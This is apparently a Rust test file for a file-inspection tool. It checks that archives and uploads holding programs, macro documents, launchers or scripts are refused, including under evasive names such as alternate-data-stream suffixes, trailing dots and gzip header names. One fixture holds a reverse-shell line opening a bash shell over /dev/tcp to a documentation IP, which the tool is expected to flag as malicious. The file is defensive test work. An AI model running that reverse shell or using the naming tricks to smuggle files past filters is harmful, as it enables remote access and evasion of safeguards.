//! What may lie inside: the policy of members, by name and by content, and names of objects.

use super::{
    ENGINE, declared_for, inspected,
    members::{assert_found, gzip, seven_zip, tar, zip, zipped},
    sample,
};
use airlock_content::{Declared, members::AllowedMembers, policy::Policy, verdict::Outcome};
use airlock_inspect::{Bounds, Finding, LIMITS, inspect};
use std::{io::Write, time::Duration};

const SHORTCUT: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0\x20\0\0\0";
const PROGRAM: &str = "a program";
const MACROS: &str = "a document with macros";
const LAUNCHER: &str = "a shortcut or launcher";

fn others(name: &str) -> Vec<u8> {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../tests/corpus/others");
    std::fs::read(folder.join(name)).unwrap()
}

fn not_taken(one: &str, path: &str) -> String {
    format!("it holds {one}, {path}, which is not taken here")
}

fn named(one: &str, path: &str) -> String {
    let all = match one {
        PROGRAM => "programs",
        MACROS => "macros",
        LAUNCHER => "launchers",
        _ => "scripts",
    };
    format!("{path} has the name of {one}, and {all} are not taken here inside archives")
}

fn allowing(members: &str, bytes: &[u8]) -> Finding {
    let mut object = tempfile::tempfile().unwrap();
    object.write_all(bytes).unwrap();
    let declared = Declared { content_type: "application/zip", file_name: "a.zip", size: bytes.len() as u64 };
    let bounds =
        Bounds { scratch: tempfile::tempfile().unwrap(), limits: LIMITS, timeout: Duration::from_secs(20) };
    let policy = Policy::parse("default", u64::MAX).unwrap();
    let policy = policy.with_members(AllowedMembers::parse(members).unwrap());
    inspect(&mut ENGINE.scanner(), &policy, &object, &declared, bounds)
}

#[test]
fn what_is_refused_alone_does_not_pass_inside() {
    let dos = b"MZ\x40\0\x01\0\0\0\x02\0\0\0\xff\xff\0\0\0\0\0\0\0\0\0\0\x40\0\0\0".to_vec();
    let class = b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d".to_vec();
    let package = zip(&[("AndroidManifest.xml", b"x"), ("a", b"b")]);
    let encoded = b"#@~^DgAAAA==\\ko$K6,J4+^VWEBBAAA==^#~@".to_vec();
    for (one, name, bytes) in [
        (PROGRAM, "setup.exe", b"nothing of a program".to_vec()),
        (PROGRAM, "notes.txt", dos),
        (PROGRAM, "a.bin", class),
        (PROGRAM, "tool.jar", others("jdk.jar")),
        (PROGRAM, "tool.txt", others("jdk.jar")),
        (PROGRAM, "app", package),
        (PROGRAM, "package", b"!<arch>\ndebian-binary   1\xff\xfe".to_vec()),
        (PROGRAM, "package", b"\xed\xab\xee\xdb\x03\0".to_vec()),
        (PROGRAM, "lib.so", b"x".to_vec()),
        (PROGRAM, "a.dex", b"x".to_vec()),
        (MACROS, "a.docm", b"x".to_vec()),
        (MACROS, "a.docx", others("libreoffice.docm").clone()),
        (LAUNCHER, "a.hta", b"<html></html>".to_vec()),
        (LAUNCHER, "a.vbs", b"x = 1\n".to_vec()),
        (LAUNCHER, "link.url", b"x".to_vec()),
        (LAUNCHER, "a.txt", encoded),
        (LAUNCHER, ".hta", b"<html></html>".to_vec()),
        (PROGRAM, "evil.exe:a.txt", b"x".to_vec()),
        (LAUNCHER, "a.txt:b.vbs", b"x".to_vec()),
        (LAUNCHER, "report.pdf.lnk. ", b"x".to_vec()),
    ] {
        let found = zipped(&[("fine.txt", b"fine"), (name, &bytes)]);
        // A rule that matches weighs more.
        let is_matched = found.outcome == Outcome::Malicious && ["a.docx", "a.jar"].contains(&name);
        if !is_matched {
            let by_content =
                ["notes.txt", "a.bin", "tool.jar", "tool.txt", "app", "package", "a.docx", "a.txt"];
            let says = if by_content.contains(&name) { not_taken } else { named };
            assert_found(&found, Outcome::Mismatch, &says(one, name));
        }
        let inner = zip(&[(name, &bytes)]);
        let found = zipped(&[("in/b.zip", &inner)]);
        assert!([Outcome::Mismatch, Outcome::Malicious].contains(&found.outcome), "{name}: {found:?}");
        let found = inspected("application/gzip", "a.tgz", &gzip(&tar(&[(name, &bytes)])));
        assert!([Outcome::Mismatch, Outcome::Malicious].contains(&found.outcome), "{name}: {found:?}");
        let found = inspected("application/x-7z-compressed", "a.7z", &seven_zip(&[(name, &bytes)]));
        assert!([Outcome::Mismatch, Outcome::Malicious].contains(&found.outcome), "{name}: {found:?}");
    }
    // Its content tells, and weighs more than its name.
    let dos = b"MZ\x40\0\x01\0\0\0\x02\0\0\0\xff\xff\0\0\0\0\0\0\0\0\0\0\x40\0\0\0";
    assert_found(&zipped(&[("a.exe", dos)]), Outcome::Mismatch, &not_taken(PROGRAM, "a.exe"));
    assert_found(&zipped(&[("a.txt", SHORTCUT)]), Outcome::Mismatch, &not_taken(LAUNCHER, "a.txt"));
}

#[test]
fn a_rule_that_only_recognises_a_class_follows_the_policy_and_others_do_not() {
    let script = b"#!/bin/sh\necho hello\n";
    let archive = zip(&[("build.sh", script), ("a.txt", SHORTCUT)]);
    assert_eq!(allowing("scripts,launchers", &archive).outcome, Outcome::Clean);
    let found = allowing("launchers", &archive);
    assert_found(&found, Outcome::Mismatch, &not_taken("a script", "build.sh"));
    // What a script does may be malice all the same, whatever is allowed.
    let connects = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
    let found = allowing(AllowedMembers::ALL, &zip(&[("build.sh", connects)]));
    assert_eq!(found.outcome, Outcome::Malicious, "{found:?}");
}

#[test]
fn source_code_is_taken() {
    let members: [(&str, &[u8]); 12] = [
        ("p/setup.sh", b"#!/bin/sh\nset -e\nmake\n"),
        ("p/build.bat", b"@rem build\r\ncl main.c\r\n"),
        ("p/build.ps1", b"Write-Output 'hello'\n"),
        ("p/main.py", b"print('hello')\n"),
        ("p/index.js", b"console.log('hello')\n"),
        ("p/index.html", b"<!doctype html><title>hello</title>"),
        ("p/aux.c", b"int main(void) { return 0; }\n"),
        ("p/nul", b"x"),
        ("p/.gitignore", b"target\n"),
        ("p/12:30.log", b"noon\n"),
        ("p/lib.wasm", b"\0asm\x01\0\0\0"),
        ("p/Main.java", b"class Main {}\n"),
    ];
    let without_shebang: Vec<_> = members.into_iter().filter(|(name, _)| *name != "p/setup.sh").collect();
    let found = zipped(&without_shebang);
    assert_eq!(found.outcome, Outcome::Clean, "{found:?}");
}

#[test]
fn a_deployment_says_what_may_pass() {
    let scripts = zip(&[("build.ps1", b"Write-Output 'hello'\n")]);
    assert_eq!(allowing("scripts", &scripts).outcome, Outcome::Clean);
    assert_found(&allowing("none", &scripts), Outcome::Mismatch, &named("a script", "build.ps1"));
    let link = zip(&[("page.website", b"x")]);
    assert_eq!(allowing("launchers,scripts", &link).outcome, Outcome::Clean);
    assert_found(&allowing("programs,scripts", &link), Outcome::Mismatch, &named(LAUNCHER, "page.website"));
    let jar = zip(&[("lib/tool.jar", &others("jdk.jar"))]);
    assert_found(&allowing("scripts", &jar), Outcome::Mismatch, &not_taken(PROGRAM, "lib/tool.jar"));
    let found = allowing("programs", &jar);
    assert_ne!(found.outcome, Outcome::Mismatch, "{found:?}");
    let macros = zip(&[("a.odt", &with_basic())]);
    assert_found(&allowing("scripts", &macros), Outcome::Mismatch, &not_taken(MACROS, "a.odt"));
    assert_eq!(allowing("macros", &macros).outcome, Outcome::Clean);
}

/// An OpenDocument with a macro.
fn with_basic() -> Vec<u8> {
    zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<a/>"),
        ("Basic/Standard/Module1.xml", b"<a/>"),
    ])
}

#[test]
fn names_of_objects_are_held_to_the_same_policy() {
    for name in [".hta", "evil.exe:a.txt", "a.txt:evil.lnk", ".EXE", "evil.vbs::$DATA", "x.hta.:a.txt"] {
        let found = inspected("text/plain", name, b"hello\n");
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
    }
    let found = inspected("text/plain", ".hta", b"hello\n");
    assert_found(
        &found,
        Outcome::Mismatch,
        &format!("its name is that of {LAUNCHER}, which is not taken here"),
    );
    for (declared, name) in [("txt", ".gitignore"), ("txt", "12:30.log"), ("txt", "notes"), ("jpg", ".jpg")] {
        let found = inspected(declared_for(declared), name, &sample(declared));
        assert_eq!(found.outcome, Outcome::Clean, "{name}: {found:?}");
    }
}

#[test]
fn a_name_is_what_any_program_makes_of_it() {
    let page = b"<html><p>hello</p></html>\n";
    let long = format!("evil.hta{}", "/.".repeat(200));
    for name in ["evil.hta/.", "evil.hta/./.", "evil.hta\\.", "d/evil.hta/.//", &long] {
        let found = zipped(&[(name, page)]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
        let found = zipped(&[("in.zip", &zip(&[(name, page)]))]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
    }
    for name in ["evil.hta.gz", "evil.hta-gz", "evil.hta.z", "evil.hta.Z", "evil.hta-z", "evil.hta_z"] {
        let found = zipped(&[(name, &gzip(page))]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
    }
    // The name that the header of gzip has for what it holds.
    let with_name = |name: &str| {
        let mut encoder =
            flate2::GzBuilder::new().filename(name).write(Vec::new(), flate2::Compression::best());
        encoder.write_all(page).unwrap();
        encoder.finish().unwrap()
    };
    for name in ["invoice.hta", "setup.exe", "a.lnk", "../x.txt", "d/x.txt", "evil.hta:a.txt"] {
        let found = inspected("application/gzip", "report.txt.gz", &with_name(name));
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
        let found = zipped(&[("report.txt.gz", &with_name(name))]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{name}: {found:?}");
    }
    let found = zipped(&[("report.txt.gz", &with_name("a.lnk"))]);
    let reason = named(LAUNCHER, "report.txt.gz/report.txt, also called a.lnk,");
    assert_found(&found, Outcome::Mismatch, &reason);
    let found = inspected("application/gzip", "report.html.gz", &with_name("other.html"));
    assert_eq!(found.outcome, Outcome::Clean, "{found:?}");
}

#[test]
fn launchers_of_all_systems_are_told_by_name() {
    for extension in ["webloc", "inetloc", "fileloc", "terminal", "slk"] {
        let found = zipped(&[(&format!("d/a.{extension}"), b"hello\n")]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{extension}: {found:?}");
    }
    for extension in ["msu", "pyz", "pyzw"] {
        let found = zipped(&[(&format!("d/a.{extension}"), b"hello\n")]);
        assert_eq!(found.outcome, Outcome::Mismatch, "{extension}: {found:?}");
    }
    assert_eq!(zipped(&[("page.mht", b"hello\n")]).outcome, Outcome::Clean);
}
